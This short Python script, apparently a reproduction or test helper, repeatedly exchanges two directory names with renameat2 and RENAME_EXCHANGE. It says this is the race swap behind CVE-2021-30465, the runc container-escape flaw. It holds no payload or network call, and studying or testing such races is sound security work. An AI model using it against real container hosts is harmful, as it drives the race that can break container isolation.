"""Lets two names of a directory change places until it is killed: renameat2(2) with RENAME_EXCHANGE, the swap of CVE-2021-30465."""
import ctypes
import os
import sys

directory, one, two = sys.argv[1:4]
AT_FDCWD, RENAME_EXCHANGE = -100, 2
libc = ctypes.CDLL(None, use_errno=True)
os.chdir(directory)
one, two = one.encode(), two.encode()
print('ready', flush=True)
while True:
    if libc.renameat2(AT_FDCWD, one, AT_FDCWD, two, RENAME_EXCHANGE) != 0:
        sys.exit(os.strerror(ctypes.get_errno()))
